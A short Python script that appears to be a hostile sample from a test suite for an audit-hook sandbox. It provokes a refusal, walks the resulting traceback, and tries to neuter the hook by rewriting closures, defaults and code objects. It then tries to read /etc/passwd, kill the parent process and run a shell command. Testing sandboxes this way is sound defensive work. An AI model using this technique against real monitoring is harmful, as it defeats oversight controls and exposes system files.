"""Looks for the audit hook in the traceback of its own refusal, to replace its code."""

import os


def try_all():
    for attempt in (
        lambda: open("/etc/passwd").read(),
        lambda: open("hostile_mark", "w").write("x"),
        lambda: os.kill(os.getppid(), 9),
        lambda: os.kill(os.getppid(), 19),
        lambda: os.system("touch /tmp/hostile_mark"),
    ):
        try:
            attempt()
        except BaseException:
            pass


def keeper(free):
    def nothing(*_, **__):
        return free and None

    return nothing


nothing = keeper(1)


try:
    open("/etc/passwd")
except BaseException as error:
    entry = error.__traceback__
    while entry:
        for value in [*entry.tb_frame.f_locals.values(), *entry.tb_frame.f_globals.values()]:
            for change in (
                lambda value=value: value.__closure__[0].__setattr__("cell_contents", None),
                lambda value=value: setattr(value, "__defaults__", (frozenset(), (), OSError, OSError)),
                lambda value=value: setattr(value, "__code__", nothing.__code__),
                lambda value=value: setattr(value, "__cantrace__", True),
            ):
                try:
                    change()
                except BaseException:
                    pass
        entry = entry.tb_next
try_all()
